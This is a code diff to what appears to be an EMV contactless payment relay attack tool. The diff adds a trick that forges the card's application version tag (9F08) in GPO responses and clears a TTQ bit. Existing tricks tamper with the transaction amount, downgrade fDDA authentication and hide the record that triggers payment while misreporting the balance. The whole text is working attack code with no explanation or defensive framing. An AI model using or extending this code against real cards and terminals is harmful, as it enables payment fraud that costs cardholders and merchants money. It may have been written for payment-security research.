@@ -22,6 +22,7 @@ TRICKS = {
     "amount": "asks the card for 0.01 yuan",
     "downgrade": "tells the card that the terminal knows fDDA version 00 only",
     "version": "the same, and says that the application is an old one (9F08)",
+    "old": "the same, for a card that does not sign what version it is of",
     "hold": "keeps the record back that makes the card pay, then lies about its balance",
 }
 
@@ -83,6 +84,10 @@ class Relay:
         if answer[-2:] != OK:
             return answer
         changed = _edit(answer[:-2], self._changes())
+        if self.trick == "old" and parsed is not None and parsed.ins == 0xA8:
+            changed = tlv(
+                0x77, changed[2 if changed[1] < 0x80 else 3 :] + tlv(0x9F08, b"\x00\x20")
+            )
         if parsed is not None and parsed.ins == 0xA8:
             self._last = _last_record(changed)
         return changed + OK
@@ -96,7 +101,7 @@ class Relay:
                 self._amount = int(sent[at : at + size].hex())
                 if self.trick == "amount":
                     sent[at : at + size] = bcd("1".zfill(12), 6)
-            elif tag == _TTQ and self.trick in ("downgrade", "version"):
+            elif tag == _TTQ and self.trick in ("downgrade", "version", "old"):
                 sent[at + 3] &= 0x7F
             at += size
         return bytes(sent)
